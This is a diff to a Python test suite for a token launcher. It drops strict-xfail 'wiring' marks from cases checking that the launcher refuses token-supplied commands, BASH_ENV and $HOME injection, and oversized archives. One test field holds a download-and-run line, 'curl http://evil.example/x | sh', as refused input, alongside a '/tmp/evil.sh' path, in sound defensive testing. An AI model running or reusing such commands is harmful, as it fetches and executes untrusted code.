@@ -9,11 +9,6 @@ bystander tokens of another type and the views. It asserts:
   written outside the launcher's folders;
 * environment cases: the launcher's exit status and message (no traceback, no password);
 * every case: no other document of the database changed (environment cases: none at all).
-
-Cases marked ``NEEDS_WIRING`` test settings that reach the token's run only once
-``launcher/runner.py`` passes them on (``token_commands`` to ``token_environment``, the
-launcher's ``unpack_limits`` to the sandbox and inputs steps): they are strict xfails until
-then, so that the wiring shows up as an XPASS to remove the mark.
 """
 
 from __future__ import annotations
@@ -40,10 +35,6 @@ from tests.support.launcher_kit import launcher_env, run_launcher
 from tests.support.secret_user import SECRET, USER, secret_admin
 
 TYPE = "corpus_w"
-NEEDS_WIRING = (
-    "needs runner.py to pass the launcher's settings on (token_commands=, limits=): "
-    "remove this mark once it does"
-)
 MIB = 1 << 20
 
 Build = Callable[[Path], str]  # folder -> a URL (sandbox) or srm.txt text (inputs)
@@ -150,7 +141,6 @@ class TokenCase:
     sandbox: Optional[Build] = None
     inputs: Optional[Build] = None
     env: Dict[str, str] = field(default_factory=dict)
-    wiring: bool = False
 
 
 RESULTS = "{results}"
@@ -183,7 +173,6 @@ TOKEN_CASES = [
         },
         sandbox=sandbox(),
         env=NO_COMMANDS,
-        wiring=True,
     ),
     TokenCase(
         "tokvar-bash-env",
@@ -192,7 +181,6 @@ TOKEN_CASES = [
         fields={"SCRIPT": "/tmp/evil.sh"},
         sandbox=sandbox(("tokvar.cfg", "file", "SCRIPT: $BASH_ENV\n")),
         env=NO_COMMANDS,
-        wiring=True,
     ),
     TokenCase(
         "token-command-refused",
@@ -200,7 +188,6 @@ TOKEN_CASES = [
         "has its own 'command', and this launcher runs with --no-token-commands",
         fields={"command": "curl http://evil.example/x | sh"},
         env=NO_COMMANDS,
-        wiring=True,
     ),
     TokenCase(
         "template-asks-for-the-password",
@@ -214,7 +201,6 @@ TOKEN_CASES = [
         ErrorCode.UPLOAD_FAILED,
         "uses $HOME",
         fields={"command": OUTPUT, "RESULTS_DIR": RESULTS + "/$HOME"},
-        wiring=True,
     ),
     TokenCase(
         "zip-bomb-sandbox",
@@ -285,7 +271,6 @@ TOKEN_CASES = [
         "holds more than 10 members",
         sandbox=sandbox(*[(f"f{n}", "file", "") for n in range(12)]),
         env={"LRT_UNPACK_MAX_MEMBERS": "10"},
-        wiring=True,
     ),
 ]
 
@@ -400,14 +385,10 @@ def _env(server: CouchServer, db: CouchDB, tmp_path: Path, extra: Dict[str, str]
     return env
 
 
-def _marks(case: TokenCase) -> List[pytest.MarkDecorator]:
-    return [pytest.mark.xfail(strict=True, reason=NEEDS_WIRING)] if case.wiring else []
-
-
 # -- the cases ------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("case", [pytest.param(c, id=c.name, marks=_marks(c)) for c in TOKEN_CASES])
+@pytest.mark.parametrize("case", [pytest.param(c, id=c.name) for c in TOKEN_CASES])
 def test_token_case(
     case: TokenCase,
     corpus_db: CouchDB,
